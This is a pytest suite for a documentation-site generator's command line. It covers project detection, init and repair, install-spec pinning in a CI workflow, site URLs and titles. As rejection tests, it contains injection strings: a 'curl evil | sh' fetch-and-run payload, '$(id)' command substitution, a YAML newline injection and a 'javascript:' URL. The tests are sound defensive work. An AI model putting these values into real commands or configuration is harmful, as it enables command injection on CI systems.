"""Starting a project: which folder is one, what `init` pins the tool to, the site's address and its title."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from generator import __version__
from generator.cli import main
from generator.publish.scaffold import WORKFLOW_FILE, spec_from_direct_url

INDEX_SPEC = f"briefing-site=={__version__}"


def _install_line(project: Path) -> str:
    return yaml.safe_load((project / WORKFLOW_FILE).read_text(encoding="utf-8"))["env"]["BRIEFING_INSTALL"]


@pytest.mark.parametrize("command", [["build"], ["generate"], ["check"], ["handouts"], ["add", "x.txt"], ["serve"]])
def test_outside_a_project_every_command_says_so_and_offers_no_repair(tmp_path, capsys, command):
    (tmp_path / "notes.txt").write_text("my own file\n")
    assert main(["-C", str(tmp_path), *command]) == 1
    err = capsys.readouterr().err.strip()
    assert err == (f"error: not a briefing project: {tmp_path} (no briefing.yml or mkdocs.yml); run it inside one, "
                   "pass -C DIR, or create one with `briefing init DIR`")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["notes.txt"]  # nothing written


def test_outside_a_project_the_current_folder_is_named_in_full(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert main(["build"]) == 1
    assert f"not a briefing project: {tmp_path} (" in capsys.readouterr().err


def test_a_project_folder_that_does_not_exist_is_named(tmp_path, capsys):
    for command in (["build"], ["init", "desk"]):
        assert main(["-C", str(tmp_path / "nowhere"), *command]) == 1
        assert capsys.readouterr().err.strip() == f"error: {tmp_path / 'nowhere'}: no such folder (-C names the project folder)"
    assert not (tmp_path / "nowhere").exists()


def test_repair_completes_only_a_project(tmp_path, capsys):
    plain = tmp_path / "plain"
    plain.mkdir()
    assert main(["init", "--repair", str(plain)]) == 1
    assert "not a briefing project" in capsys.readouterr().err and list(plain.iterdir()) == []
    assert main(["init", "--repair", str(tmp_path / "missing")]) == 1
    assert "no such folder" in capsys.readouterr().err
    # A folder with a README of its own is no project: init refuses to write over it and does not offer --repair.
    (plain / "README.md").write_text("# mine\n")
    assert main(["init", str(plain)]) == 2
    err = capsys.readouterr().err
    assert "already exists" in err and "--repair" not in err and "new folder" in err
    # A project missing its mkdocs.yml is completed.
    project = tmp_path / "project"
    assert main(["init", str(project)]) == 0
    (project / "mkdocs.yml").unlink()
    assert main(["-C", str(project), "build"]) == 1
    assert f"`briefing init --repair {project}`" in capsys.readouterr().err
    assert main(["init", "--repair", str(project)]) == 0 and (project / "mkdocs.yml").is_file()


@pytest.mark.parametrize("record, spec, noted", [
    (None, INDEX_SPEC, False),  # from the index: no install record
    ({"url": "https://github.com/desk/briefing", "vcs_info": {"vcs": "git", "commit_id": "a" * 40,
                                                              "requested_revision": "v1.0.0"}},
     f"git+https://github.com/desk/briefing@{'a' * 40}", False),
    ({"url": "https://x-access-token:SECRET@github.com/desk/briefing", "vcs_info": {"vcs": "git", "commit_id": "b" * 40}},
     f"git+https://github.com/desk/briefing@{'b' * 40}", False),  # a token never goes into the workflow
    ({"url": "ssh://git@github.com/desk/briefing", "vcs_info": {"vcs": "git", "commit_id": "c" * 40}},
     f"git+ssh://git@github.com/desk/briefing@{'c' * 40}", False),
    ({"url": "https://files.example.org/briefing_site-0.1.0-py3-none-any.whl", "archive_info": {"hashes": {}}},
     "briefing-site @ https://files.example.org/briefing_site-0.1.0-py3-none-any.whl", False),
    ({"url": "file:///home/me/dist/briefing_site-0.1.0-py3-none-any.whl", "archive_info": {}}, INDEX_SPEC, True),
    ({"url": "file:///home/me/briefing", "dir_info": {"editable": True}}, INDEX_SPEC, True),
    ("not json", INDEX_SPEC, True),
])
def test_the_pin_follows_how_the_tool_was_installed(record, spec, noted):
    found = spec_from_direct_url(record if record is None or isinstance(record, str) else json.dumps(record))
    assert found.spec == spec
    assert (found.note is not None) == noted
    if noted:
        assert INDEX_SPEC in found.note and "SECRET" not in found.note


def test_install_sets_the_workflows_spec_and_refuses_what_would_break_its_quoting(tmp_path, capsys):
    spec = "git+https://github.com/desk/briefing@v1.2.0"
    assert main(["init", "--install", spec, str(tmp_path / "a")]) == 0
    assert _install_line(tmp_path / "a") == spec
    assert "CI cannot reach" not in capsys.readouterr().err  # chosen, so nothing to explain
    assert spec in (tmp_path / "a" / "README.md").read_text(encoding="utf-8")
    for bad in ['x"; curl evil | sh; "', "briefing-site==$(id)", "git+https://h/r@v1\nrun: x", ""]:
        assert main(["init", "--install", bad, str(tmp_path / "b")]) == 1
        assert "--install" in capsys.readouterr().err
        assert not (tmp_path / "b").exists()


def test_site_url_goes_into_mkdocs_yml_and_the_404_page_uses_it(tmp_path, capsys):
    project = tmp_path / "desk"
    assert main(["init", "--site-url", "https://desk.github.io/briefing", str(project)]) == 0
    settings = yaml.safe_load((project / "mkdocs.yml").read_text(encoding="utf-8"))
    assert settings["site_url"] == "https://desk.github.io/briefing/"
    assert main(["-C", str(project), "build", "--strict"]) == 0
    assert 'href="/briefing/assets/stylesheets/' in (project / "site" / "404.html").read_text(encoding="utf-8")
    assert main(["init", "--site-url", "javascript:alert(1)", str(tmp_path / "other")]) == 1
    assert "--site-url" in capsys.readouterr().err


def test_without_a_site_url_the_build_takes_the_address_from_the_environment(tmp_path, monkeypatch):
    project = tmp_path / "desk"
    assert main(["init", str(project)]) == 0
    assert "\nsite_url:" not in (project / "mkdocs.yml").read_text(encoding="utf-8")  # a commented placeholder only
    assert main(["-C", str(project), "build"]) == 0
    assert 'href="/assets/stylesheets/' in (project / "site" / "404.html").read_text(encoding="utf-8")  # the bug
    monkeypatch.setenv("BRIEFING_SITE_URL", "https://desk.github.io/briefing/")
    assert main(["-C", str(project), "build"]) == 0
    assert 'href="/briefing/assets/stylesheets/' in (project / "site" / "404.html").read_text(encoding="utf-8")
    assert not list(project.glob(".briefing-offline-*"))  # the overlay lived for the build only
    monkeypatch.setenv("BRIEFING_SITE_URL", "not an address")
    assert main(["-C", str(project), "build"]) == 1


def test_the_sites_title_is_set_once_in_mkdocs_yml(tmp_path, capsys):
    project = tmp_path / "desk"
    assert main(["init", str(project)]) == 0
    assert "title" not in (yaml.safe_load((project / "briefing.yml").read_text(encoding="utf-8")).get("site") or {})
    mkdocs = project / "mkdocs.yml"
    mkdocs.write_text(mkdocs.read_text(encoding="utf-8").replace("site_name: Briefing", "site_name: Lithium desk"))
    assert main(["-C", str(project), "build", "--strict"]) == 0
    for page in ("site/index.html", "site/about.html"):
        assert "Lithium desk" in (project / page).read_text(encoding="utf-8")
    assert "<h1 id=\"lithium-desk\">Lithium desk" in (project / "site" / "index.html").read_text(encoding="utf-8")
    # An older briefing.yml's site.title is named as unused, and the one title stays the title.
    config = project / "briefing.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("site:\n", "site:\n  title: Old name\n", 1))
    capsys.readouterr()
    assert main(["-C", str(project), "build", "--strict"]) == 1
    assert "site.title is no longer read" in capsys.readouterr().err
    assert "Old name" not in (project / "docs_src" / "index.md").read_text(encoding="utf-8")


def test_an_install_address_that_cannot_be_quoted_falls_back_to_the_index(tmp_path, capsys, monkeypatch):
    import generator.cli as cli
    from generator.publish.scaffold import InstallSpec

    monkeypatch.setattr(cli, "installed_spec", lambda: InstallSpec('git+https://example.org/a b"; id; "@abc'))
    assert main(["init", str(tmp_path / "desk")]) == 0
    assert _install_line(tmp_path / "desk") == INDEX_SPEC
    assert "cannot quote safely" in capsys.readouterr().err
